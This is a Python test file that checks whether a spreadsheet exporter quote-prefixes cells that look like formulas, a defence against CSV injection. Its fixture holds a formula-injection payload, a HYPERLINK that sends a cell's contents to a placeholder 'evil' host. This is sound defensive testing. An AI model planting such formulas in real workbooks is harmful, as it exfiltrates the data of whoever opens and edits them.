"""Text that Excel would run as a formula once edited stays text in the workbook (OWASP "CSV Injection")."""

from __future__ import annotations

import io

import openpyxl

from battlemap.io.export import export_map_bytes

from .maps import sample_analysis, sample_map


def test_a_text_starting_like_a_formula_is_quote_prefixed_so_editing_it_in_excel_keeps_it_text():
    """A CRM name `=HYPERLINK("http://evil/?"&A1,"Click")` was written as a text cell, but Excel reads a cell again
    when it is edited (F2, Enter): the name became a live formula sending the sheet's data away. Written as Excel
    writes a text typed after an apostrophe (quotePrefix), it shows unchanged and stays text; a plain name is
    written as before; a wrapped column's cell (a note) keeps its wrapping."""
    data = sample_map()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data["people"][1]["name"] = hostile
    data["people"][2]["name"] = "@SUM(1+1)*cmd"
    data["people"][3]["phone"] = "+86 138 0013 8000"
    data["people"][4]["portrait"]["notes"] = "-2+3 是她的口头禅"
    book = openpyxl.load_workbook(
        io.BytesIO(export_map_bytes(data, fmt="xlsx", lang="en", analysis=sample_analysis()))
    )
    people = book.worksheets[0]
    header = [c.value for c in people[1]]
    rows = {row[header.index("Name")].value: row for row in people.iter_rows(min_row=2)}

    def cell(name, column):
        return rows[name][header.index(column)]

    for name, column in ((hostile, "Name"), ("@SUM(1+1)*cmd", "Name"), ("刘芳", "Phone"), ("陈静", "Notes")):
        found = cell(name, column)
        assert found.data_type == "s" and found.value.startswith(("=", "@", "+", "-")), (name, column)
        assert found.quotePrefix, (name, column)
    assert cell("陈静", "Notes").alignment.wrap_text
    assert not cell("王建国", "Name").quotePrefix  # an ordinary name: no mark
    # the name reads back as it was (the people sheet imports back)
    assert hostile in rows
